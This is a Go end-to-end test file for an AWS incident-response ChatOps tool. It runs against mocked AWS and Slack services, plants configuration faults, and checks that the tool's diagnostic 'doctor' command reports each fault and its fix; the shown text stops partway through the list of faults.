//go:build e2e

package e2e

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/cloudformation"
	cfn "github.com/aws/aws-sdk-go-v2/service/cloudformation/types"
	"github.com/aws/aws-sdk-go-v2/service/cloudtrail"
	"github.com/aws/aws-sdk-go-v2/service/dynamodb"
	ddbtypes "github.com/aws/aws-sdk-go-v2/service/dynamodb/types"
	"github.com/aws/aws-sdk-go-v2/service/eventbridge"
	rules "github.com/aws/aws-sdk-go-v2/service/eventbridge/types"
	"github.com/aws/aws-sdk-go-v2/service/guardduty"
	"github.com/aws/aws-sdk-go-v2/service/iam"
	"github.com/aws/aws-sdk-go-v2/service/organizations"
	orgtypes "github.com/aws/aws-sdk-go-v2/service/organizations/types"
	"github.com/aws/aws-sdk-go-v2/service/s3"
	buckets "github.com/aws/aws-sdk-go-v2/service/s3/types"
	"github.com/aws/aws-sdk-go-v2/service/secretsmanager"
	"github.com/aws/aws-sdk-go-v2/service/sns"
	"github.com/aws/aws-sdk-go-v2/service/sqs"
	"github.com/aws/smithy-go/encoding/cbor"

	"github.com/killswitch-chatops/killswitch/actions/all"
	"github.com/killswitch-chatops/killswitch/actions/scp"
	"github.com/killswitch-chatops/killswitch/approvals"
	store "github.com/killswitch-chatops/killswitch/approvals/dynamodb"
	"github.com/killswitch-chatops/killswitch/bot/ingress"
	"github.com/killswitch-chatops/killswitch/cmd/config"
	"github.com/killswitch-chatops/killswitch/cmd/doctor"
)

// between stands before a service and answers some operations in its place: what moto and local-slack do not have,
// and faults that nobody can make there.
type between struct {
	t       *testing.T
	URL     string
	mu      sync.Mutex
	answers map[string]func(body string) (status int, answer string)
	header  map[string]string // of all answers
	edits   map[string]func(answer string) string
}

func standBetween(t *testing.T, to string) *between {
	target, err := url.Parse(to)
	if err != nil {
		t.Fatal(err)
	}
	b := &between{t: t, answers: map[string]func(string) (int, string){}, header: map[string]string{}, edits: map[string]func(string) string{}}
	proxy := httputil.NewSingleHostReverseProxy(target)
	proxy.ModifyResponse = func(resp *http.Response) error {
		b.mu.Lock()
		defer b.mu.Unlock()
		for k, v := range b.header {
			resp.Header.Set(k, v)
		}
		edit := b.edits[resp.Request.Header.Get("X-Operation")]
		if edit == nil {
			return nil
		}
		body, err := io.ReadAll(resp.Body)
		if err != nil {
			return err
		}
		changed := edit(string(body))
		resp.Body, resp.ContentLength = io.NopCloser(strings.NewReader(changed)), int64(len(changed))
		resp.Header.Del("Content-Length")
		return nil
	}
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		r.Body = io.NopCloser(bytes.NewReader(body))
		operation := operationOf(r, string(body))
		b.mu.Lock()
		answer := b.answers[operation]
		header := b.header
		b.mu.Unlock()
		if answer != nil {
			if status, text := answer(string(body)); status != 0 {
				for k, v := range header {
					w.Header().Set(k, v)
				}
				switch {
				case strings.HasPrefix(text, "{"):
					w.Header().Set("Content-Type", "application/json")
				case strings.HasPrefix(text, "<"):
					w.Header().Set("Content-Type", "text/xml")
				default:
					w.Header().Set("Content-Type", "application/cbor")
					w.Header().Set("Smithy-Protocol", "rpc-v2-cbor")
				}
				w.WriteHeader(status)
				_, _ = io.WriteString(w, text)
				return
			}
		}
		r.Header.Set("X-Operation", operation)
		proxy.ServeHTTP(w, r)
	}))
	t.Cleanup(server.Close)
	b.URL = server.URL
	return b
}

// operationOf is the operation that is called: by its target, its form or its path.
func operationOf(r *http.Request, body string) string {
	if target := r.Header.Get("X-Amz-Target"); target != "" {
		return target[strings.LastIndex(target, ".")+1:]
	}
	if form, err := url.ParseQuery(body); err == nil && form.Get("Action") != "" {
		return form.Get("Action")
	}
	if of := r.URL.Query().Get("FunctionName"); of != "" {
		return "mappings of " + of
	}
	return r.Method + " " + r.URL.Path
}

// answer has an operation answered, until it is taken back.
func (b *between) answer(operation string, status int, text string) (back func()) {
	return b.answerIf(operation, "", status, text)
}

// answerIf answers only what has a text in its body.
func (b *between) answerIf(operation, has string, status int, text string) (back func()) {
	b.mu.Lock()
	defer b.mu.Unlock()
	before := b.answers[operation]
	b.answers[operation] = func(body string) (int, string) {
		if !strings.Contains(body, has) {
			if before != nil {
				return before(body)
			}
			return 0, ""
		}
		return status, text
	}
	return func() {
		b.mu.Lock()
		defer b.mu.Unlock()
		if b.answers[operation] = before; before == nil {
			delete(b.answers, operation)
		}
	}
}

// edit has the answers of an operation changed, until it is taken back.
func (b *between) edit(operation string, change func(string) string) (back func()) {
	b.mu.Lock()
	defer b.mu.Unlock()
	before := b.edits[operation]
	b.edits[operation] = func(answer string) string {
		if before != nil {
			answer = before(answer)
		}
		return change(answer)
	}
	return func() {
		b.mu.Lock()
		defer b.mu.Unlock()
		if b.edits[operation] = before; before == nil {
			delete(b.edits, operation)
		}
	}
}

func (b *between) head(name, value string) (back func()) {
	b.mu.Lock()
	defer b.mu.Unlock()
	before := b.header[name]
	header := map[string]string{name: value}
	for k, v := range b.header {
		if k != name {
			header[k] = v
		}
	}
	b.header = header
	return func() { b.head(name, before) }
}

// installation is one that is well, as functions, in an organization with two member accounts.
type installation struct {
	*scene
	aws, slack *between
	ingress    *ingress.Ingress
	url        string
	file       string
	accounts   []string
	d          deployment
	hub, mgmt  aws.Config
	env        []string
	functions  map[string]string // names by logical ID
	alarm      string            // topic
	packed     string            // where the functions' code is fetched
}

func install(t *testing.T) *installation {
	t.Helper()
	ctx := t.Context()
	w := Acme("http://127.0.0.1:1/slack/events")
	w.Users = append(w.Users, User{ID: cem, Name: "cem", RealName: "Cem"})
	w.Channels[0].Members = append(w.Channels[0].Members, cem)
	in := &installation{scene: &scene{t: t, slack: StartSlack(t, w), aws: StartAWS(t), dir: t.TempDir(), management: "999999999999"}}
	in.aws, in.slack = standBetween(t, in.scene.aws.URL), standBetween(t, in.scene.slack.URL)
	in.slack.head("X-Oauth-Scopes", strings.Join(doctor.Scopes, ","))
	in.hub, in.mgmt = in.scene.aws.Hub(t), in.scene.aws.Member(t, in.management)
	in.accounts = []string{in.memberAccount("prod"), in.memberAccount("staging")}
	organization, err := in.org().DescribeOrganization(ctx, nil)
	in.must(err)
	id := *organization.Organization.Id
	// The hub is a member, which moto can't make of an account that is there already.
	in.aws.edit("ListAccounts", func(s string) string {
		return strings.Replace(s, `{"Accounts": [`, `{"Accounts": [{"Id": "`+HubAccount+`", "Name": "security", "Status": "ACTIVE"}, `, 1)
	})

	topic := func(name string) string {
		client := sns.NewFromConfig(in.hub)
		made, err := client.CreateTopic(ctx, &sns.CreateTopicInput{Name: &name})
		in.must(err)
		queue, err := sqs.NewFromConfig(in.hub).CreateQueue(ctx, &sqs.CreateQueueInput{QueueName: aws.String(name + "-listener")})
		in.must(err)
		_, err = client.Subscribe(ctx, &sns.SubscribeInput{TopicArn: made.TopicArn, Protocol: aws.String("sqs"), Endpoint: aws.String("arn:aws:sqs:" + region + ":" + HubAccount + ":" + lastPart(*queue.QueueUrl, "/"))})
		in.must(err)
		return *made.TopicArn
	}
	pager, alarm := topic("pager"), topic("alarms")
	client := s3.NewFromConfig(in.hub, func(o *s3.Options) { o.UsePathStyle = true })
	_, err = client.CreateBucket(ctx, &s3.CreateBucketInput{Bucket: aws.String("heads"), ObjectLockEnabledForBucket: aws.Bool(true), CreateBucketConfiguration: &buckets.CreateBucketConfiguration{LocationConstraint: region}})
	in.must(err)
	_, err = client.PutObjectLockConfiguration(ctx, &s3.PutObjectLockConfigurationInput{Bucket: aws.String("heads"), ObjectLockConfiguration: &buckets.ObjectLockConfiguration{
		ObjectLockEnabled: buckets.ObjectLockEnabledEnabled, Rule: &buckets.ObjectLockRule{DefaultRetention: &buckets.DefaultRetention{Mode: buckets.ObjectLockRetentionModeCompliance, Days: aws.Int32(400)}}}})
	in.must(err)

	in.file = filepath.Join(in.dir, "killswitch.yaml")
	in.must(os.WriteFile(in.file, []byte(in.configuration(pager)), 0o600))
	in.d = deploy(t, in.scene.aws, "OrganizationId="+id, "PagerTopicArn="+pager, "AlarmTopicArn="+alarm, "AuditBucketName=heads")
	in.secret("SigningSecretArn", w.App.SigningSecret)
	in.secret("BotTokenArn", w.App.BotToken)
	in.secret("WebhookKeysArn", "soar=9f8e7d6c5b4a")
	in.notInMoto(id, alarm)
	in.members(id)
	in.tamper()

	secret := w.App.SigningSecret
	in.ingress = &ingress.Ingress{Secrets: func(context.Context) ([]string, error) { return []string{secret}, nil }, Now: time.Now, Log: slog.New(slog.DiscardHandler), Bodies: ingress.NewBodies()}
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { in.ingress.ServeHTTP(w, r) }))
	t.Cleanup(server.Close)
	in.url = server.URL

	profiles := filepath.Join(in.dir, "config")
	in.must(os.WriteFile(profiles, fmt.Appendf(nil, "[profile hub]\nregion = %s\naws_access_key_id = AKIAE2EHUBACCOUNT00\naws_secret_access_key = e2e\n[profile management]\nregion = %[1]s\nsource_profile = hub\nrole_arn = arn:aws:iam::%s:role/admin\n", region, in.management), 0o600))
	in.env = []string{"PATH=" + os.Getenv("PATH"), "HOME=" + in.dir, "AWS_ENDPOINT_URL=" + in.aws.URL, "AWS_ENDPOINT_URL_STS=" + in.aws.URL, "AWS_CONFIG_FILE=" + profiles, "AWS_SHARED_CREDENTIALS_FILE=/dev/null", "AWS_EC2_METADATA_DISABLED=true", "SLACK_API_URL=" + in.slack.URL + "/api/"}
	return in
}

func lastPart(s, sep string) string { return s[strings.LastIndex(s, sep)+1:] }

func (in *installation) configuration(pager string) string {
	return fmt.Sprintf(`
slack: {team: T01ACME, incident_channel: C01SEC}
people:
  - {id: ana, name: Ana, slack: U01ANA}
  - {id: ben, name: Ben, slack: U01BEN}
  - {id: cem, name: Cem, slack: %s}
groups: {responders: {people: [ana, ben, cem]}}
aws:
  hub_account: "%s"
  management_account: "%s"
  responder_role: killswitch-responder
  restorer_role: killswitch-restorer
  forwarder_role: killswitch-forwarder
  external_id: 5f0c
  regions: [us-east-1, %s]
  accounts: {prod: "%s", staging: "%s"}
protected: {accounts: ["%[2]s"]}
policy: {default: {requesters: responders, approvers: responders, approvals: 1, approve_within: 30m, run_within: 5m}}
alerts: {routes: [{match: {source: guardduty}}, {match: {source: trustedadvisor}}]}
webhooks: [{id: soar, actions: [revoke_sessions], owners: [cem]}]
notify: {pager_topic_arn: "%[7]s"}
audit: {bucket: heads}
`, cem, HubAccount, in.management, region, in.accounts[0], in.accounts[1], pager)
}

func (in *installation) secret(output, value string) {
	_, err := secretsmanager.NewFromConfig(in.hub).PutSecretValue(in.t.Context(), &secretsmanager.PutSecretValueInput{SecretId: aws.String(in.d.Outputs[output]), SecretString: &value})
	in.must(err)
}

// notInMoto stands for what moto's Lambda, CloudWatch, EventBridge and Support lack, or need a container engine for.
func (in *installation) notInMoto(organization, alarm string) {
	t := in.t
	raw, err := os.ReadFile(in.file)
	in.must(err)
	code := in.code(raw)
	in.packed, in.alarm = code, alarm
	functions := map[string]string{}
	out, err := cloudformation.NewFromConfig(in.hub).DescribeStackResources(t.Context(), &cloudformation.DescribeStackResourcesInput{StackName: aws.String("killswitch")})
	in.must(err)
	for _, r := range out.StackResources {
		if aws.ToString(r.ResourceType) == "AWS::Lambda::Function" {
			functions[*r.LogicalResourceId] = *r.PhysicalResourceId
		}
	}
	for id, n := range map[string]int{"IngressFunction": 0, "BotFunction": 7, "ExecutorFunction": 2} {
		in.aws.answer("GET /2015-03-31/functions/"+functions[id], http.StatusOK, fmt.Sprintf(`{"Configuration":{"FunctionName":%q,"State":"Active"},"Code":{"Location":%q}}`, functions[id], code))
		mappings := strings.TrimSuffix(strings.Repeat(`{"State":"Enabled","EventSourceArn":"arn:aws:sqs:`+region+":"+HubAccount+`:queue"},`, n), ",")
		in.aws.answer("mappings of "+functions[id], http.StatusOK, `{"EventSourceMappings":[`+mappings+`]}`)
	}
	in.functions = functions
	in.aws.answer("GET /2016-08-19/account-settings", http.StatusOK, `{"AccountLimit":{"ConcurrentExecutions":1000}}`)
	in.aws.answer("DescribeTrustedAdvisorChecks", http.StatusOK, `{"checks":[]}`)
	in.alarms(true, alarm, "OK")
	in.checked(time.Now())
	_, err = eventbridge.NewFromConfig(in.hub).PutPermission(t.Context(), &eventbridge.PutPermissionInput{StatementId: aws.String("forwarders"), Action: aws.String("events:PutEvents"), Principal: aws.String("*"),
		Condition: &rules.Condition{Type: aws.String("StringEquals"), Key: aws.String("aws:PrincipalOrgID"), Value: &organization}})
	in.must(err)
	for _, table := range []string{"RequestsTable", "RunsTable"} { // moto's CloudFormation leaves it out
		_, err := dynamodb.NewFromConfig(in.hub).UpdateContinuousBackups(t.Context(), &dynamodb.UpdateContinuousBackupsInput{TableName: aws.String(in.d.Outputs[table]), PointInTimeRecoverySpecification: &ddbtypes.PointInTimeRecoverySpecification{PointInTimeRecoveryEnabled: aws.Bool(true)}})
		in.must(err)
	}
	queues := sqs.NewFromConfig(in.hub)
	listed, err := queues.ListQueues(t.Context(), nil)
	in.must(err)
	for _, url := range listed.QueueUrls {
		_, err := queues.SetQueueAttributes(t.Context(), &sqs.SetQueueAttributesInput{QueueUrl: &url, Attributes: map[string]string{"Policy": `{"Version":"2012-10-17","Statement":[{"Effect":"Deny","Principal":"*","Action":"sqs:*","Resource":"*","Condition":{"Bool":{"aws:SecureTransport":"false"}}}]}`}})
		in.must(err)
	}
}

// alarms has CloudWatch answer with an alarm, in the form that the SDK asks for and moto does not have.
func (in *installation) alarms(enabled bool, topic, state string) (back func()) {
	alarm := cbor.Map{"AlarmName": cbor.String("killswitch-NotContained-1"), "ActionsEnabled": cbor.Bool(enabled), "AlarmActions": cbor.List{cbor.String(topic)}, "StateValue": cbor.String(state)}
	return in.aws.answer("POST /service/GraniteServiceVersion20100801/operation/DescribeAlarms", http.StatusOK, string(cbor.Encode(cbor.Map{"MetricAlarms": cbor.List{alarm}})))
}

// checked has the zones look at themselves, with what they found.
func (in *installation) checked(at time.Time, found ...approvals.Trouble) {
	requests := store.New(dynamodb.NewFromConfig(in.hub), in.d.Outputs["RequestsTable"])
	h := approvals.HealthCheck{}
	version, err := approvals.Find(in.t.Context(), requests, approvals.HealthCheckKey, &h)
	in.must(err)
	in.must(requests.Write(in.t.Context(), approvals.PutRow(approvals.HealthCheckKey, version, approvals.HealthCheck{ID: approvals.HealthID(at), Begun: at, Ended: at})))
	runs := store.New(dynamodb.NewFromConfig(in.hub), in.d.Outputs["RunsTable"])
	version, err = approvals.Find(in.t.Context(), runs, approvals.HealthFoundKey, &approvals.HealthFound{})
	in.must(err)
	in.must(runs.Write(in.t.Context(), approvals.PutRow(approvals.HealthFoundKey, version, approvals.HealthFound{ID: approvals.HealthID(at), Ended: at, Found: found})))
}

// code is where a function's zip can be fetched.
func (in *installation) code(configuration []byte) string {
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	f, err := z.Create("killswitch.yaml")
	in.must(err)
	_, err = f.Write(configuration)
	in.must(err)
	in.must(z.Close())
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { _, _ = w.Write(b.Bytes()) }))
	in.t.Cleanup(server.Close)
	return server.URL
}

// members deploys what "killswitch template members" prints, by a StackSet, and what records and finds.
func (in *installation) members(organization string) {
	ctx := in.t.Context()
	printed := in.run(os.Environ(), Setting(in.t, "KILLSWITCH")+" template members --config "+in.file)
	stacks := cloudformation.NewFromConfig(in.mgmt)
	name := aws.String("killswitch-members")
	parameter := func(k, v string) cfn.Parameter {
		return cfn.Parameter{ParameterKey: &k, ParameterValue: &v}
	}
	given := []cfn.Parameter{parameter("HubRegion", region), parameter("OrganizationId", organization)}
	_, err := stacks.CreateStackSet(ctx, &cloudformation.CreateStackSetInput{StackSetName: name, TemplateBody: &printed, Parameters: given, Capabilities: []cfn.Capability{cfn.CapabilityCapabilityNamedIam},
		AutoDeployment: &cfn.AutoDeployment{Enabled: aws.Bool(true), RetainStacksOnAccountRemoval: aws.Bool(true)}, PermissionModel: cfn.PermissionModelsServiceManaged})
	in.must(err)
	in.aws.edit("DescribeStackSet", func(s string) string { // moto keeps no automatic deployment
		return strings.Replace(s, "<StackSetName>", "<AutoDeployment><Enabled>true</Enabled><RetainStacksOnAccountRemoval>true</RetainStacksOnAccountRemoval></AutoDeployment><StackSetName>", 1)
	})
	unit, err := in.org().CreateOrganizationalUnit(ctx, &organizations.CreateOrganizationalUnitInput{ParentId: aws.String(in.root()), Name: aws.String("workloads")})
	in.must(err)
	for _, account := range in.accounts {
		_, err := in.org().MoveAccount(ctx, &organizations.MoveAccountInput{AccountId: &account, SourceParentId: aws.String(in.root()), DestinationParentId: unit.OrganizationalUnit.Id})
		in.must(err)
	}
	_, err = stacks.CreateStackInstances(ctx, &cloudformation.CreateStackInstancesInput{StackSetName: name, Regions: []string{"us-east-1", region}, DeploymentTargets: &cfn.DeploymentTargets{OrganizationalUnitIds: []string{*unit.OrganizationalUnit.Id}}})
	in.must(err)
	management := in.mgmt
	management.Region = "us-east-1"
	_, err = cloudformation.NewFromConfig(management).CreateStack(ctx, &cloudformation.CreateStackInput{StackName: name, TemplateBody: &printed, Parameters: given, Capabilities: []cfn.Capability{cfn.CapabilityCapabilityNamedIam}})
	in.must(err)
	management.Region = region
	_, err = cloudformation.NewFromConfig(management).CreateStack(ctx, &cloudformation.CreateStackInput{StackName: name, TemplateBody: &printed, Parameters: given, Capabilities: []cfn.Capability{cfn.CapabilityCapabilityNamedIam}})
	in.must(err)
	hub := in.hub // its events of IAM are in us-east-1
	hub.Region = "us-east-1"
	_, err = cloudformation.NewFromConfig(hub).CreateStack(ctx, &cloudformation.CreateStackInput{StackName: name, TemplateBody: &printed, Parameters: given, Capabilities: []cfn.Capability{cfn.CapabilityCapabilityNamedIam}})
	in.must(err)
	for _, account := range append([]string{HubAccount, in.management}, in.accounts...) {
		cfg := hub
		if account != HubAccount {
			in.asCloudFormationWould(account)
			cfg = in.scene.aws.Member(in.t, account)
		}
		for _, r := range []string{"us-east-1", region} {
			cfg.Region = r
			_, err := guardduty.NewFromConfig(cfg).CreateDetector(ctx, &guardduty.CreateDetectorInput{Enable: aws.Bool(true)})
			in.must(err)
		}
		cfg.Region = "us-east-1"
		bucket := aws.String("trail-" + account)
		_, err := s3.NewFromConfig(cfg, func(o *s3.Options) { o.UsePathStyle = true }).CreateBucket(ctx, &s3.CreateBucketInput{Bucket: bucket})
		in.must(err)
		client := cloudtrail.NewFromConfig(cfg)
		_, err = client.CreateTrail(ctx, &cloudtrail.CreateTrailInput{Name: aws.String("all"), S3BucketName: bucket, IsMultiRegionTrail: aws.Bool(true), IncludeGlobalServiceEvents: aws.Bool(true)})
		in.must(err)
		_, err = client.StartLogging(ctx, &cloudtrail.StartLoggingInput{Name: aws.String("all")})
		in.must(err)
	}
}

// asCloudFormationWould mends what moto's CloudFormation makes otherwise: it leaves a null in place of what is left out,
// attaches no managed policies and keeps inline policies of a role in no JSON.
func (in *installation) asCloudFormationWould(account string) {
	ctx, client := in.t.Context(), iam.NewFromConfig(in.scene.aws.Member(in.t, account))
	for _, name := range []string{"killswitch-responder", "killswitch-restorer"} {
		role, err := client.GetRole(ctx, &iam.GetRoleInput{RoleName: &name})
		in.must(err)
		trust, err := url.PathUnescape(*role.Role.AssumeRolePolicyDocument)
		in.must(err)
		_, err = client.UpdateAssumeRolePolicy(ctx, &iam.UpdateAssumeRolePolicyInput{RoleName: &name, PolicyDocument: aws.String(strings.ReplaceAll(trust, ", null", ""))})
		in.must(err)
	}
	if account != in.management {
		_, err := client.AttachRolePolicy(ctx, &iam.AttachRolePolicyInput{RoleName: aws.String("killswitch-isolation"), PolicyArn: aws.String("arn:aws:iam::aws:policy/AWSDenyAll")})
		in.must(err)
	}
	_, err := client.PutRolePolicy(ctx, &iam.PutRolePolicyInput{RoleName: aws.String("killswitch-forwarder"), PolicyName: aws.String("forward"),
		PolicyDocument: aws.String(`{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"events:PutEvents","Resource":"arn:aws:events:` + region + ":" + HubAccount + `:event-bus/default"}]}`)})
	in.must(err)
}

func (in *installation) root() string {
	roots, err := in.org().ListRoots(in.t.Context(), nil)
	in.must(err)
	return *roots.Roots[0].Id
}

// attach puts a policy on a target, until it is taken back.
func (in *installation) attach(name, target, content string) (back func()) {
	ctx := in.t.Context()
	made, err := in.org().CreatePolicy(ctx, &organizations.CreatePolicyInput{Content: &content, Name: &name, Description: &name, Type: orgtypes.PolicyTypeServiceControlPolicy})
	in.must(err)
	id := made.Policy.PolicySummary.Id
	_, err = in.org().AttachPolicy(ctx, &organizations.AttachPolicyInput{PolicyId: id, TargetId: &target})
	in.must(err)
	return func() {
		_, err := in.org().DetachPolicy(ctx, &organizations.DetachPolicyInput{PolicyId: id, TargetId: &target})
		in.must(err)
		_, err = in.org().DeletePolicy(ctx, &organizations.DeletePolicyInput{PolicyId: id})
		in.must(err)
	}
}

func (in *installation) tamper() func() {
	c, err := config.Load(in.file)
	in.must(err)
	return in.attach(scp.TamperPolicy, in.root(), all.TamperSCP(c.Org))
}

// examine runs doctor.
func (in *installation) examine(more ...string) []doctor.Result {
	in.t.Helper()
	args := append([]string{"doctor", "--config", in.file, "--profile", "hub", "--management-profile", "management", "--member-role", "e2e-test", "--url", in.url, "--output", "json"}, more...)
	var stderr bytes.Buffer
	cmd := exec.CommandContext(in.t.Context(), Setting(in.t, "KILLSWITCH"), args...)
	cmd.Env, cmd.Stderr = in.env, &stderr
	out, err := cmd.Output()
	var results []doctor.Result
	if jerr := json.Unmarshal(out, &results); jerr != nil {
		in.t.Fatalf("%v %v: %s%s", err, jerr, out, &stderr)
	}
	wrong := slices.ContainsFunc(results, func(r doctor.Result) bool { return !r.OK })
	var exit *exec.ExitError
	if errors.As(err, &exit) != wrong || wrong && exit.ExitCode() != 1 {
		in.t.Errorf("it ends with %v, %t", err, wrong)
	}
	return results
}

// A fault is what is planted in an installation that is well.
type fault struct {
	name  string
	check string // that finds it
	found string // in what it says
	mend  string // in what it says to do
	plant func(in *installation) (back func())
}

// TestDoctor: an installation that is well has no finding; each fault is found by its check, which says what mends it,
// and no other check takes it for something else. Faults that hide none of the others are planted together.
func TestDoctor(t *testing.T) {
	in := install(t)
	well := func(when string) {
		t.Helper()
		for _, r := range in.examine() {
			if !r.OK {
				t.Errorf("%s nothing is wrong, and %s says: %s; do: %s", when, r.Check, r.Found, r.Mend)
			}
		}
	}
	well("at first")
	planted := 0
	for i, round := range faults {
		var back []func()
		for _, f := range round {
			back = append(back, f.plant(in))
			planted++
		}
		results := in.examine()
		for _, f := range round {
			if !slices.ContainsFunc(results, func(r doctor.Result) bool {
				return r.Check == f.check && !r.OK && strings.Contains(r.Found, f.found) && strings.Contains(r.Mend, f.mend)
			}) {
				t.Errorf("%s: %s does not say %q, do %q", f.name, f.check, f.found, f.mend)
			}
		}
		for _, r := range results {
			if !r.OK && !slices.ContainsFunc(round, func(f fault) bool { return f.check == r.Check && strings.Contains(r.Found, f.found) }) {
				t.Errorf("round %d: %s says besides: %s; do: %s", i, r.Check, r.Found, r.Mend)
			}
			if !r.OK && r.Mend == "" {
				t.Errorf("%s says nothing to do", r.Check)
			}
			if strings.Contains(r.Found+r.Mend, in.scene.slack.App.SigningSecret) || strings.Contains(r.Found+r.Mend, in.scene.slack.App.BotToken) {
				t.Errorf("%s tells a secret", r.Check)
			}
		}
		slices.Reverse(back)
		for _, b := range back {
			b()
		}
	}
	t.Logf("%d faults", planted)
	well("after all is mended")
}

// follows is what another fault of the round brings with it.
func follows(*installation) func() { return func() {} }

// slackSays has the answer of a method of Slack changed.
func slackSays(method, old, replaced string) func(*installation) func() {
	return func(in *installation) func() {
		return in.slack.edit("POST /api/"+method, func(s string) string {
			if !strings.Contains(s, old) {
				in.t.Errorf("%s does not say %s: %s", method, old, s)
			}
			return strings.Replace(s, old, replaced, 1)
		})
	}
}

// awsSays has an operation of AWS answered otherwise.
func awsSays(operation, has string, status int, text string) func(*installation) func() {
	return func(in *installation) func() { return in.aws.answerIf(operation, has, status, text) }
}

// ofProd changes something of a member role of prod.
func ofProd(change, undo func(ctx context.Context, client *iam.Client) error) func(*installation) func() {
	return func(in *installation) func() {
		client := iam.NewFromConfig(in.scene.aws.Member(in.t, in.accounts[0]))
		in.must(change(in.t.Context(), client))
		return func() { in.must(undo(in.t.Context(), client)) }
	}
}

const responder, restorer = "killswitch-responder", "killswitch-restorer"

var faults = [][]fault{
	{
		{"Slack does not know the token", "slack.token", "token_revoked", "OAuth & Permissions", func(in *installation) func() {
			return in.slack.answer("POST /api/auth.test", http.StatusOK, `{"ok":false,"error":"token_revoked"}`)
		}},
		{"a stack that failed", "hub.stack", "UPDATE_ROLLBACK_COMPLETE", "describe-stack-events", func(in *installation) func() {
			return in.aws.edit("DescribeStacks", func(s string) string { return strings.Replace(s, "CREATE_COMPLETE", "UPDATE_ROLLBACK_COMPLETE", 1) })
		}},
		{"the pager's topic is another than the stack's", "hub.parameters", "PagerTopicArn", "sam deploy", func(in *installation) func() {
			return in.aws.edit("DescribeStacks", func(s string) string { return strings.Replace(s, ":pager<", ":old-pager<", 1) })
		}},
		{"a function that does not start", "hub.functions", "BotFunction is Failed", "sam deploy", func(in *installation) func() {
			return in.aws.answer("GET /2015-03-31/functions/"+in.functions["BotFunction"], http.StatusOK, fmt.Sprintf(`{"Configuration":{"State":"Failed","StateReason":"InvalidImage"},"Code":{"Location":%q}}`, in.packed))
		}},
		{"a queue that nobody reads", "hub.functions", "jobs: its mapping is Disabled", "sam deploy", func(in *installation) func() {
			return in.aws.answer("mappings of "+in.functions["ExecutorFunction"], http.StatusOK, `{"EventSourceMappings":[{"State":"Disabled","EventSourceArn":"arn:aws:sqs:eu-west-1:123456789012:jobs"},{"State":"Enabled","EventSourceArn":"arn:aws:sqs:eu-west-1:123456789012:checks"}]}`)
		}},
		{"few functions at once", "hub.concurrency", "10 functions", "L-B99A9384", awsSays("GET /2016-08-19/account-settings", "", http.StatusOK, `{"AccountLimit":{"ConcurrentExecutions":10}}`)},
		{"messages that nobody could deal with", "hub.dead", "JobsDeadQueue has 1", "docs/runbook.md", func(in *installation) func() {
			client := sqs.NewFromConfig(in.hub)
			listed, err := client.ListQueues(in.t.Context(), &sqs.ListQueuesInput{QueueNamePrefix: aws.String("killswitch-JobsDeadQueue")})
			in.must(err)
			_, err = client.SendMessage(in.t.Context(), &sqs.SendMessageInput{QueueUrl: &listed.QueueUrls[0], MessageBody: aws.String("{}")})
			in.must(err)
			return func() {
				_, err := client.PurgeQueue(in.t.Context(), &sqs.PurgeQueueInput{QueueUrl: &listed.QueueUrls[0]})
				in.must(err)
			}
		}},
		{"a table that can be deleted", "hub.tables", "RunsTable can be deleted", "--deletion-protection-enabled", func(in *installation) func() {
			protect := func(on bool) {
				_, err := dynamodb.NewFromConfig(in.hub).UpdateTable(in.t.Context(), &dynamodb.UpdateTableInput{TableName: aws.String(in.d.Outputs["RunsTable"]), DeletionProtectionEnabled: &on})
				in.must(err)
			}
			protect(false)
			return func() { protect(true) }
		}},
		{"the zones look no more", "hub.checked", "have not looked", "botcheckmissing", func(in *installation) func() {
			in.checked(time.Now().Add(-30 * time.Hour))
			return func() { in.checked(time.Now()) }
		}},
		{"an alarm that rings", "hub.alarms", "NotContained", "docs/runbook.md", func(in *installation) func() { return in.alarms(true, in.alarm, "ALARM") }},
		{"nobody hears the pager", "notify.pager", "nobody is subscribed", "aws sns subscribe", func(in *installation) func() {
			return in.aws.answerIf("ListSubscriptionsByTopic", "pager", http.StatusOK, `<ListSubscriptionsByTopicResponse xmlns="http://sns.amazonaws.com/doc/2010-03-31/"><ListSubscriptionsByTopicResult><Subscriptions><member><SubscriptionArn>PendingConfirmation</SubscriptionArn></member></Subscriptions></ListSubscriptionsByTopicResult></ListSubscriptionsByTopicResponse>`)
		}},
		{"a second hub", "hub.one", "killswitch-old in us-east-1", "docs/restore.md", func(in *installation) func() {
			cfg := in.hub
			cfg.Region = "us-east-1"
			client, name := cloudformation.NewFromConfig(cfg), aws.String("killswitch-old")
			_, err := client.CreateStack(in.t.Context(), &cloudformation.CreateStackInput{StackName: name, TemplateBody: aws.String(`{"Resources":{"Jobs":{"Type":"AWS::SQS::Queue"}},"Outputs":{"RunsTable":{"Value":"old"}}}`)})
			in.must(err)
			return func() {
				_, err := client.DeleteStack(in.t.Context(), &cloudformation.DeleteStackInput{StackName: name})
				in.must(err)
			}
		}},
		{"the hub's rule is switched off", "events.rules", "switched off", "deploy the stack", func(in *installation) func() { return in.switchOff(in.hub, "GuardDutyRule") }},
		{"the bus takes nothing from the accounts", "events.bus", "does not let", "deploy the stack", func(in *installation) func() {
			return in.aws.edit("DescribeEventBus", func(s string) string { return strings.ReplaceAll(s, "o-", "x-") })
		}},
		{"another signing secret at the address", "address.slack", "refuses what the signing secret signs", "Basic Information", func(in *installation) func() {
			before := in.ingress.Secrets
			in.ingress.Secrets = func(context.Context) ([]string, error) { return []string{"00112233445566778899aabbccddeeff"}, nil }
			return func() { in.ingress.Secrets = before }
		}},
		{"no Trusted Advisor", "support.plan", "no Trusted Advisor", "Business Support+", awsSays("DescribeTrustedAdvisorChecks", "", http.StatusBadRequest, `{"__type":"SubscriptionRequiredException"}`)},
		{"heads that can be deleted", "audit.bucket", "no default retention", "deploy/README.md", func(in *installation) func() {
